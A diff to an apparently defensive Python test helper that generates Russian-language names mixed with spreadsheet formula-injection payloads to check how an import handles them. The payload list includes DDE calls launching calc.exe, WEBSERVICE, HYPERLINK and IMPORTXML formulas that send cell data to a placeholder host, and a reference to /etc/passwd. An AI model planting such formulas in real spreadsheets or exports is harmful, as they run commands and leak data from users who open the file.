@@ -25,7 +25,7 @@ STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "''=", "\"=", " 
 EDGES = ["\t=", "\r=", "\n=", "=\t", "\v=", "\u200b=", "\ufeff="]
 BODIES = ["cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x/?\"&A1;\"Смотрите\")", "WEBSERVICE(\"http://x/\"&B2)",
           "IMPORTXML(CONCAT(\"http://x/\";A1);\"//a\")", "DDE(\"soffice\";\"x\";\"y\")", "'file:///etc/passwd'#$passwd.A1",
-          "2*3", "7 (912)", "1;2", "A1&\"\"", "MSEXCEL|'\\..\\..\\calc.exe'!''", "_xlfn.WEBSERVICE(1)", "{1}", "%0A", "1е5"]
+          "2*3", "7", "1;2", "A1&\"\"", "MSEXCEL|'\\..\\..\\calc.exe'!''", "_xlfn.WEBSERVICE(1)", "{1}", "%0A", "1е5"]
 WORDS = ["Ёлкина Жанна Юрьевна", "Щукин Эдуард Ильич", "Иванов", "Ъ Ы Ь", "<b>&amp;</b>", "%1 %2", "«да»"]
 
 
@@ -42,6 +42,12 @@ def names(number):
         start = rng.choice(EDGES if rng.random() < 0.05 else STARTS)
         found[f"{start}{rng.choice(BODIES)} {rng.choice(WORDS)} {counted(len(found))}"] = True
     return list(found)
+
+
+def serial(number):
+    """Different words: what has figures beside a name is none to the import."""
+    letters = "абвгдежзиклмнопрстуфхцчшэюя"
+    return "".join(letters[number // len(letters) ** place % len(letters)] for place in range(4)).capitalize()
 
 
 class Check:
